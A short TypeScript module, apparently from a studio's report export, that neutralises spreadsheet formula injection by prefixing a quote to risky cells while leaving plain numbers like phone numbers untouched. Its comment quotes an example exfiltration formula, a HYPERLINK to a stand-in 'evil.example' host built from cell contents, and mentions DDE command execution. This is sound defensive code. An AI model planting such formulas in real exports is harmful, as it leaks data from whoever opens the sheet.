/**
 * Spreadsheet formula injection ("CSV injection", OWASP): a report holds text that visitors and Meta
 * wrote (a page URL from the Referer header, a Messenger payload, an event name). Opened in Excel,
 * LibreOffice or Google Sheets, a cell starting with `=`, `+`, `-` or `@` is run as a formula, and
 * one such as `=HYPERLINK("https://evil.example/?"&A2, "Click")` or a DDE call can leak the sheet or
 * run a command on the site owner's machine. Tab and carriage return are on the list too: some
 * spreadsheets skip them and read the formula behind. A leading `'` makes the cell plain text.
 *
 * Decision: a cell that is only a number (a sign, digits, at most one decimal point) is left alone: it
 * cannot call anything, and the E.164 phone numbers of the subscribers report ("+12015550123") would
 * otherwise all carry the quote. csv-stringify's own `escape_formulas` has no such exception, so the
 * studio's export applies this function as its `cast.string` instead.
 */

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(?:\.\d+)?$/;

export function guardFormulaCell(value: string): string {
  return FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}
